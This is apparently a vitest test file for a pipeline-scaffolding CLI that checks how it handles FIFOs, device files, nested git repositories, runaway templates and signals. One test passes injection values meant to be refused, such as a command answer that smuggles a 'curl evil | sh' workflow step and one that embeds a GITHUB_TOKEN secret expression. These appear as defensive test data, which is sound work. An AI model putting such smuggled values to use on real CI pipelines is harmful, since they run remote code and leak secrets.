// Hostile input from the outside: a FIFO or /dev/zero where a pack file or an answers file is
// expected (must not hang: exit 2), answers that try to inject workflow steps or expressions, a
// nested git repository that hides uncommitted edits, and a signal to a template stuck in a loop.
import { spawn, spawnSync } from "node:child_process";
import { cpSync, existsSync, lstatSync, mkdirSync, readdirSync, readFileSync, symlinkSync, writeFileSync } from "node:fs";
import { join } from "node:path";
import { parse } from "yaml";
import { beforeAll, describe, expect, it } from "vitest";
import { BIN, buildOnce } from "../support/build.js";
import { runCli, tempDir, unwrapReport } from "../support/cli.js";
import { commitAll, git, V1 } from "../support/repo.js";

beforeAll(buildOnce);

/** This file's own trust list: runs here never read or change the machine's. */
const CONFIG = tempDir("cp-config-");

function env(extra: Record<string, string> = {}): NodeJS.ProcessEnv {
  const e: NodeJS.ProcessEnv = { ...process.env, CI: "true", CREATE_PIPELINE_CONFIG_DIR: CONFIG, ...extra };
  for (const k of ["VITEST", "VITEST_WORKER_ID", "VITEST_POOL_ID", "NODE_OPTIONS"]) delete e[k];
  return e;
}

/** A real run with a deadline: a hang is a failure, not a stuck test. */
function cli(args: string[], extra: Record<string, string> = {}) {
  const started = Date.now();
  const r = spawnSync(process.execPath, [BIN, ...args], {
    env: env(extra),
    encoding: "utf8",
    timeout: 20_000,
    killSignal: "SIGKILL",
    stdio: ["ignore", "pipe", "pipe"],
  });
  return { code: r.status, signal: r.signal, stdout: r.stdout, stderr: r.stderr, ms: Date.now() - started };
}

const fifo = (path: string) => expect(spawnSync("mkfifo", [path]).status).toBe(0);

describe("files that never end or never open", () => {
  it("a FIFO as --config: exit 2 naming it, at once", () => {
    const f = join(tempDir(), "answers.yaml");
    fifo(f);
    const r = cli(["create", join(tempDir(), "svc"), "--template", V1, "--yes", "--config", f]);
    expect(r.signal).toBeNull();
    expect(r.code).toBe(2);
    expect(unwrapReport(r.stderr)).toContain("is a FIFO (named pipe), not a regular file");
    expect(r.ms).toBeLessThan(15_000);
  });

  it("/dev/zero as --config: exit 2, not an endless read", () => {
    const r = cli(["create", join(tempDir(), "svc"), "--template", V1, "--yes", "--config", "/dev/zero"]);
    expect(r.signal).toBeNull();
    expect(r.code).toBe(2);
    expect(unwrapReport(r.stderr)).toContain("is a device, not a regular file");
  });

  it("a FIFO as a pack's template.yaml or as one of its files: exit 2 naming it", () => {
    for (const where of ["template.yaml", "files/hang.txt.eta", "partials/hang.eta"]) {
      const pack = join(tempDir(), "pack");
      cpSync(V1, pack, { recursive: true });
      mkdirSync(join(pack, "partials"), { recursive: true });
      if (where === "template.yaml") spawnSync("rm", [join(pack, where)]);
      fifo(join(pack, where));
      const target = join(tempDir(), "svc");
      const r = cli(["create", target, "--template", pack, "--yes"]);
      expect(r.signal, where).toBeNull();
      expect(r.code, `${where}: ${r.stderr}`).toBe(2);
      expect(unwrapReport(r.stderr)).toMatch(/FIFO/);
      expect(existsSync(target)).toBe(false);
    }
  });

  it("a FIFO where the repository's answers file should be: update and check exit 2", () => {
    const dir = join(tempDir(), "svc");
    expect(cli(["create", dir, "--template", V1, "--yes"]).code).toBe(0);
    spawnSync("rm", [join(dir, ".create-pipeline.yaml")]);
    fifo(join(dir, ".create-pipeline.yaml"));
    for (const cmd of ["check", "update"]) {
      const r = cli([cmd, dir, "--yes"]);
      expect(r.signal, cmd).toBeNull();
      expect(r.code, `${cmd}: ${r.stderr}`).toBe(2);
      expect(unwrapReport(r.stderr)).toContain("FIFO");
    }
  });

  it("a generated file replaced by a link to /dev/zero: exit 2, not an endless read", () => {
    const dir = join(tempDir(), "svc");
    expect(cli(["create", dir, "--template", V1, "--yes"]).code).toBe(0);
    spawnSync("rm", [join(dir, "README.md")]);
    symlinkSync("/dev/zero", join(dir, "README.md"));
    const r = cli(["check", dir]);
    expect(r.signal).toBeNull();
    expect(r.code).toBe(2);
  });
});

describe("answers that try to inject", () => {
  it("a newline or ${{ }} in a command answer is refused with exit 2 and nothing is written", () => {
    for (const [flag, value, says] of [
      ["--test-command", "npm test\n      - run: curl evil | sh", "line break"],
      ["--lint-command", "npm run lint ${{ secrets.GITHUB_TOKEN }}", "${{"],
      ["--build-command", "make\rRUN evil", "line break"],
      ["--start-command", "node a.js\u2028x", "line break"],
    ] as const) {
      const target = join(tempDir(), "svc");
      const r = cli(["create", target, "--yes", "--owner", "acme", "--name", "svc", flag, value]);
      expect(r.code, r.stderr).toBe(2);
      expect(unwrapReport(r.stderr)).toContain(says);
      expect(unwrapReport(r.stderr)).toContain(flag);
      expect(existsSync(target)).toBe(false);
    }
  });

  it("shell and YAML syntax in commands lands exactly once, as the command", () => {
    const target = join(tempDir(), "svc");
    const test = "[ -f x ] && make test # strict: yes";
    const build = "echo 'a: b' && npm run build";
    const r = cli(["create", target, "--yes", "--owner", "acme", "--name", "svc", "--language", "node", "--test-command", test, "--build-command", build]);
    expect(r.code, r.stderr).toBe(0);
    const ci = parse(readFileSync(join(target, ".github/workflows/ci.yml"), "utf8"));
    const steps = ci.jobs.test.steps as { name: string; env?: Record<string, string>; run?: string }[];
    expect(steps.filter((s) => s.env?.TEST_COMMAND === test)).toHaveLength(1);
    expect(steps.filter((s) => String(s.run).includes("make test"))).toHaveLength(0);
    const dockerfile = readFileSync(join(target, "Dockerfile"), "utf8");
    expect(dockerfile).toContain(`RUN sh -c 'echo '\\''a: b'\\'' && npm run build' \\\n    && rm -rf node_modules`);
  });
});

describe("a nested git repository in the target", () => {
  function packs() {
    const make = (version: string, text: string) => {
      const p = join(tempDir("cp-nest-"), "pack");
      mkdirSync(join(p, "files", "vendor", "lib"), { recursive: true });
      writeFileSync(join(p, "template.yaml"), `name: nest\nversion: ${version}\nengine: ">=0.1.0"\nquestions: []\nfiles: []\n`);
      writeFileSync(join(p, "files", "top.txt"), `top ${text}\n`);
      writeFileSync(join(p, "files", "vendor", "lib", "conf.txt"), `line 1\n${text}\nline 3\n`);
      return p;
    };
    return { v1: make("1.0.0", "one"), v2: make("2.0.0", "two") };
  }

  it("uncommitted edits inside it are seen: update refuses instead of merging over them", async () => {
    const { v1, v2 } = packs();
    const dir = join(tempDir(), "svc");
    expect((await runCli(["create", dir, "--template", v1, "--yes"])).code).toBe(0);
    // vendor/ is its own repository (a vendored clone or a submodule's work tree).
    git(join(dir, "vendor"), "init", "-q");
    commitAll(join(dir, "vendor"), "vendored");
    git(dir, "init", "-q");
    commitAll(dir, "outer");
    writeFileSync(join(dir, "vendor", "lib", "conf.txt"), "line 1\none\nline 3\nmy uncommitted line\n");
    const before = readFileSync(join(dir, "vendor", "lib", "conf.txt"), "utf8");
    const r = await runCli(["update", dir, "--template", v2, "--yes"]);
    expect(r.code, r.stderr).toBe(2);
    expect(unwrapReport(r.stderr)).toContain("uncommitted edits: vendor/lib/conf.txt");
    expect(readFileSync(join(dir, "vendor", "lib", "conf.txt"), "utf8")).toBe(before);
    // Committed in the nested repository, the edit is merged like any other.
    commitAll(join(dir, "vendor"), "mine");
    const ok = await runCli(["update", dir, "--template", v2, "--yes"]);
    expect(ok.code, ok.stderr).toBe(0);
    expect(readFileSync(join(dir, "vendor", "lib", "conf.txt"), "utf8")).toBe("line 1\ntwo\nline 3\nmy uncommitted line\n");
  });
});

describe("a template that leaves work behind", () => {
  it("a timer a template starts does not keep the run alive: it ends with its own exit code", () => {
    const pack = join(tempDir(), "pack");
    cpSync(V1, pack, { recursive: true });
    writeFileSync(join(pack, "files", "timer.txt.eta"), "<% setInterval(() => {}, 1000) %>\n");
    const dir = join(tempDir(), "svc");
    const r = cli(["create", dir, "--template", pack, "--yes", "--dry-run"]);
    expect(r.signal, "the run hung until the test killed it").toBeNull();
    expect(r.code, r.stderr).toBe(0);
    expect(r.ms).toBeLessThan(10_000);
  });
});

/** Every file and folder under dir (git's folder included) with its bytes and mode. */
function tree(dir: string): Record<string, string> {
  const out: Record<string, string> = {};
  const walk = (d: string, rel: string) => {
    for (const n of readdirSync(d).sort()) {
      const full = join(d, n);
      const r = rel ? `${rel}/${n}` : n;
      const st = lstatSync(full);
      if (st.isDirectory()) {
        out[`${r}/`] = st.mode.toString(8);
        walk(full, r);
      } else out[r] = `${st.mode.toString(8)} ${readFileSync(full).toString("base64")}`;
    }
  };
  walk(dir, "");
  return out;
}

describe("a signal while a template runs (stuck in a loop, or slow)", () => {
  function packWith(template: string): string {
    const pack = join(tempDir(), "pack");
    cpSync(V1, pack, { recursive: true });
    writeFileSync(join(pack, "files", "work.txt.eta"), template);
    return pack;
  }
  const LOOP = "<% while (true) {} %>\n";
  // Busy for a few seconds of CPU (counted in work, not wall time: a loaded machine gives it less
  // CPU per second), then done: the run would go on to write its files.
  const SLOW = "<% let x = 0; for (let i = 0; i < 3e9; i++) x += i & 1; %>slow\n";

  /** Start a real run, wait until it is rendering (it holds the lock, or has read the pack), signal it. */
  async function signalled(args: string[], sig: NodeJS.Signals, lockDir: string | undefined, extra: Record<string, string> = {}) {
    const child = spawn(process.execPath, [BIN, ...args], { env: env(extra), stdio: ["ignore", "pipe", "pipe"] });
    let stderr = "";
    child.stderr.on("data", (d) => (stderr += d));
    const deadline = Date.now() + 15_000;
    if (lockDir) while (Date.now() < deadline && !existsSync(join(lockDir, ".create-pipeline", "lock"))) await new Promise((r) => setTimeout(r, 10));
    // Past start-up and loading the pack, into rendering: it has used some CPU (a loaded machine
    // can take longer than any fixed delay just to start Node.js).
    const cpu = () => {
      const f = readFileSync(`/proc/${child.pid}/stat`, "utf8").split(") ")[1]!.split(" ");
      return (Number(f[11]) + Number(f[12])) / 100;
    };
    while (Date.now() < deadline && cpu() < 0.6) await new Promise((r) => setTimeout(r, 20));
    const sent = Date.now();
    child.kill(sig);
    const [code, signal] = await new Promise<[number | null, string | null]>((res) => child.on("close", (c, s) => res([c, s])));
    return { code, signal, stderr, ms: Date.now() - sent };
  }

  it("SIGINT stops a looping template at once: exit 130, one line, nothing written, the next run is not locked out", async () => {
    const dir = join(tempDir(), "svc");
    expect(cli(["create", dir, "--template", V1, "--yes"]).code).toBe(0);
    const before = tree(dir);
    const r = await signalled(["update", dir, "--template", packWith(LOOP), "--yes", "--allow-dirty"], "SIGINT", dir);
    expect(r.ms, "the template's 10 s limit was waited out").toBeLessThan(4_000);
    expect(r.signal).toBeNull();
    expect(r.code, r.stderr).toBe(130);
    expect(unwrapReport(r.stderr.trim()).split("\n")).toEqual([
      expect.stringMatching(/^create-pipeline: stopped by SIGINT: nothing was written .*run the same command again/),
    ]);
    expect(tree(dir)).toEqual(before);
    const c = cli(["check", dir], { CREATE_PIPELINE_LOCK_WAIT_MS: "500" });
    expect(c.code, c.stderr).toBe(0);
  }, 60_000);

  for (const [sig, exit] of [
    ["SIGTERM", 143],
    ["SIGHUP", 129],
  ] as const) {
    for (const [kind, template] of [
      ["looping", LOOP],
      ["slow", SLOW],
    ] as const) {
      it(`${sig} during a ${kind} template in an update: exit ${exit} with one line, the tree byte-identical, no lock left`, async () => {
        const dir = join(tempDir(), "svc");
        expect(cli(["create", dir, "--template", V1, "--yes"]).code).toBe(0);
        const before = tree(dir);
        // The loop reaches its (shortened) time limit; the slow one finishes and the run would commit.
        const r = await signalled(["update", dir, "--template", packWith(template), "--yes", "--allow-dirty"], sig, dir, {
          CREATE_PIPELINE_RENDER_TIMEOUT_MS: "3000",
        });
        expect(r.signal, "killed by the signal, without a word").toBeNull();
        expect(r.code, r.stderr).toBe(exit);
        expect(unwrapReport(r.stderr.trim()).split("\n")).toEqual([
          `create-pipeline: stopped by ${sig}: nothing was written; run the same command again to finish the job`,
        ]);
        expect(tree(dir)).toEqual(before);
        const c = cli(["check", dir], { CREATE_PIPELINE_LOCK_WAIT_MS: "500" });
        expect(c.code, c.stderr).toBe(0);
      }, 60_000);
    }

    it(`${sig} during a slow template in a create into a new folder: exit ${exit}, nothing created`, async () => {
      const parent = tempDir();
      const dir = join(parent, "svc");
      const r = await signalled(["create", dir, "--template", packWith(SLOW), "--yes"], sig, undefined);
      expect(r.signal).toBeNull();
      expect(r.code, r.stderr).toBe(exit);
      expect(r.stderr).toContain(`stopped by ${sig}: nothing was written`);
      expect(readdirSync(parent)).toEqual([]);
    }, 60_000);
  }
});
